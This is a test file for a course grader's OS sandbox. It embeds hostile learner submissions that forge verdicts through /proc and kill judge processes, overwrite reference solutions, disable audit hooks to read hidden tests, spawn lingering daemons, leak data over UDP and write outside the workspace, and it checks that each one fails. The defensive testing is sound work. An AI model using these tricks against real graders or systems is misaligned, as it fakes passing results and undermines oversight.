"""Attacks that get past any fence inside the learner's own process: they must fail behind the
OS boundary (see dl_course.grading.boundary), and leave nothing behind.

Each submission is wrong (an all-False mask) or tampers with something outside itself; every
one is graded in one `dl-course check` beside a correct file, which must still pass. The whole
module is skipped where no box can be started (then grading says it is advisory).
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import time

import pytest

from conftest import Cli, by_id, make_pack, reference_source

WRONG = "torch.zeros(1, size, size, dtype=torch.bool, device=device)"


def _box_available() -> bool:
    probe = subprocess.run([sys.executable, "-c", "from dl_course.grading import boundary; "
                            "print(boundary.status().box)"], capture_output=True, text=True)
    return probe.stdout.strip() == "True"


# DL_COURSE_SHOW_ATTACKS=1 with DL_COURSE_NO_BOX=1 runs them without the box, to see them succeed.
pytestmark = pytest.mark.skipif(not (_box_available() or os.environ.get("DL_COURSE_SHOW_ATTACKS")), reason="no OS boundary on this machine (bwrap, namespaces)")

ATTACKS = {
    # Replaces the learner runtime's encoder so tensors cross without their values: the judge
    # used to skip value and gradient comparisons for those.
    "values_none": f"""
        import torch
        import dl_course.grading.ops as ops
        import dl_course.grading.wire as wire
        real = wire.encode
        def forged(value, path="output"):
            tree = real(value, path)
            if isinstance(tree, dict) and tree.get("__tensor__"):
                tree["values"] = None
                tree["device"] = "cpu"
            return tree
        ops.encode = wire.encode = forged
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
    # Writes a passing verdict into every judge's stdout it can find through /proc, then kills them.
    "forged_verdict": f"""
        import json, os, signal, torch
        verdict = json.dumps({{"version": 1, "results": []}})
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{{pid}}/fd/1", "w") as out:
                        out.write(verdict)
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
    # Rewrites the reference (so the judge would import the learner's code) and reads the suite.
    "rewrite_reference": f"""
        import torch
        for path in ["{{pack}}/solutions/chapter09/subsequent_mask.py", "{{pack}}/solutions/chapter09/loud.py"]:
            try:
                with open(path, "w") as f:
                    f.write("def subsequent_mask(size, device=None):\\n    import torch\\n    return {WRONG}\\n")
            except OSError:
                pass
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
    # Switches the audit hook off from pure Python, then reads the hidden suite.
    "hook_off_then_read": """
        import torch
        import dl_course.grading.sandbox as sandbox
        sandbox._BLOCKED_EVENTS.clear()
        SUITE = open("{pack}/grader/chapter09/subsequent_mask/test_subsequent_mask.py").read()
        def subsequent_mask(size, device=None):
            return torch.ones(size, size, dtype=torch.bool, device=device).tril().unsqueeze(0)
    """,
    # Leaves a daemon behind (fork through libc, past the audit hook; a session of its own).
    "daemon": f"""
        import ctypes, os, time, torch
        libc = ctypes.CDLL(None)
        if libc.fork() == 0:
            libc.setsid()
            while True:
                time.sleep(0.2)
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
    # UDP needs no connect: sendto goes straight out, if there is a network.
    "udp": f"""
        import socket, torch
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"dl-course-leak", ("127.0.0.1", {{port}}))
        except OSError:
            pass
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
    # Writes outside its workspace (a file the grader's user could later trust).
    "write_outside": f"""
        import torch
        for path in ["{{outside}}", "{{workspace}}/chapter09/loud.py"]:
            try:
                with open(path, "w") as f:
                    f.write("written by learner code")
            except OSError:
                pass
        def subsequent_mask(size, device=None):
            return {WRONG}
    """,
}


def _cmdline(pid: int | str) -> str:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return f.read().replace(b"\0", b" ").decode("utf-8", "replace")


def _under_a_live_judge(pid: str) -> bool:
    """Whether a judge still runs above this process: it belongs to a grader that is still
    running (another test or program on this machine), not one that left it behind."""
    seen = set()
    while pid not in seen and pid not in ("0", "1"):
        seen.add(pid)
        try:
            if "dl_course.grading.judge" in _cmdline(pid):
                return True
            with open(f"/proc/{pid}/stat") as f:
                pid = f.read().rsplit(")", 1)[1].split()[1]
        except (OSError, IndexError):
            return False
    return False


def _box_processes() -> list[str]:
    """Learner processes on this machine that no running judge owns (left behind)."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = _cmdline(pid)
            except OSError:
                continue
            if ("zygote_main" in cmd or "dl_course.grading.learner" in cmd) and not _under_a_live_judge(pid):
                found.append(f"{pid}: {cmd[:120]}")
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("boundary")
    pack = make_pack(root / "pack", {name: {} for name in ATTACKS} | {"loud": {}})
    reference = (pack / "solutions" / "chapter09" / "subsequent_mask.py").read_bytes()
    ws = root / "work"
    ws.mkdir()
    outside = root / "outside.txt"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.5)
    cli = Cli(ws, pack)
    assert cli("start", "chapter9").returncode == 0
    chapter = ws / "chapter09"
    for name, source in ATTACKS.items():
        text = textwrap.dedent(source).replace("{pack}", str(pack)).replace("{port}", str(udp.getsockname()[1]))
        text = text.replace("{outside}", str(outside)).replace("{workspace}", str(ws))
        (chapter / f"{name}.py").write_text(text)
    (chapter / "loud.py").write_text(reference_source())
    loud_before = (chapter / "loud.py").read_bytes()
    before = set(_box_processes())
    code, report = cli.json("check", timeout=600)
    time.sleep(0.5)
    try:
        leaked = udp.recv(100)
    except OSError:
        leaked = b""
    udp.close()
    return {"code": code, "results": by_id(report), "reference_intact": reference == (
        pack / "solutions" / "chapter09" / "subsequent_mask.py").read_bytes(), "outside": outside.exists(),
        "loud_intact": loud_before == (chapter / "loud.py").read_bytes(), "udp": leaked,
        "left_running": sorted(set(_box_processes()) - before)}


def test_no_attack_passes_and_the_honest_file_does(attacked):
    results = attacked["results"]
    assert attacked["code"] == 1
    assert [name for name in ATTACKS if results[name]["passed"]] == []
    assert results["loud"]["passed"], results["loud"]


def test_tensors_without_values_are_refused(attacked):
    checks = attacked["results"]["values_none"]["checks"]
    failed = next(c for c in checks if c["status"] == "failed")
    assert failed["name"] == "values" and "without its values" in failed["message"]


def test_the_judge_cannot_be_reached(attacked):
    # The forged verdict never reached the CLI: the exercise got a real (failing) verdict.
    result = attacked["results"]["forged_verdict"]
    assert result["checks"] and not result["passed"] and result["error"] is None


def test_the_pack_is_out_of_reach(attacked):
    assert attacked["reference_intact"]
    hook_off = attacked["results"]["hook_off_then_read"]
    assert hook_off["checks"][0]["name"] == "loads" and hook_off["checks"][0]["status"] == "failed"
    assert "No such file" in hook_off["checks"][0]["message"]


def test_no_network_not_even_udp(attacked):
    assert attacked["udp"] == b""


def test_nothing_is_written_outside(attacked):
    assert not attacked["outside"] and attacked["loud_intact"]


def test_nothing_is_left_running(attacked):
    assert attacked["left_running"] == []


def test_a_python_that_lives_under_tmp_is_reachable_in_every_session(tmp_path):
    """CI's virtual environment lives under /tmp: the box mounts its own /tmp first and then the
    Python binds, and each session's fresh /tmp carries those binds over (a folder bound under
    /tmp used to vanish, and bwrap said 'execvp …/bin/python: No such file or directory')."""
    from dl_course.grading import boundary

    home = tmp_path / "python-home"  # tmp_path lies under /tmp
    home.mkdir()
    (home / "marker.txt").write_text("here")
    home.chmod(0o755)
    for parent in home.parents:
        if str(parent) == "/tmp":
            break
        parent.chmod(parent.stat().st_mode | 0o055)
    box = boundary.Box()
    box.binds.append((str(home), str(home)))
    probe = textwrap.dedent(f"""
        import os, sys
        sys.path.insert(0, {boundary.BOX_RUNTIME!r})
        from dl_course.grading import fences
        print("box", open({str(home / "marker.txt")!r}).read(), os.listdir("/tmp") != [], flush=True)
        assert fences.own_namespaces()
        pid = os.fork()
        if pid == 0:
            print("session", open({str(home / "marker.txt")!r}).read(), flush=True)
            open("/tmp/scratch.txt", "w").write("x")  # the session's /tmp is its own and writable
            os._exit(0)
        os._exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    """)
    proc = subprocess.run(box.command([sys.executable, "-I", "-c", probe]), capture_output=True, text=True,
                          preexec_fn=box.preexec, cwd=box.tmp, timeout=60)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "box here True" in proc.stdout and "session here" in proc.stdout, proc.stdout
    assert not (tmp_path / "scratch.txt").exists()


@pytest.mark.parametrize("gpu", [False, True])
def test_the_memory_limit_stops_a_memory_bomb_on_either_device(gpu, tmp_path):
    """On a GPU the learner's memory is bounded by RLIMIT_DATA (CUDA reserves host address space
    of about twice the GPU's memory, so an address-space limit would stop CUDA itself); a bomb is
    still stopped, without a GPU to prove the CUDA side here."""
    script = tmp_path / "bomb.py"
    script.write_text(textwrap.dedent(f"""
        import resource
        from dl_course.grading import sandbox
        import torch
        sandbox.apply_limits(1024**3, gpu={gpu})
        which = resource.RLIMIT_DATA if {gpu} else resource.RLIMIT_AS
        assert resource.getrlimit(which) == (1024**3, 1024**3), resource.getrlimit(which)
        try:
            torch.ones(2 * 1024**3, dtype=torch.uint8)
        except (RuntimeError, MemoryError) as e:
            print("stopped:", type(e).__name__)
        else:
            print("not stopped")
    """))
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=120)
    assert "stopped:" in proc.stdout, proc.stdout + proc.stderr
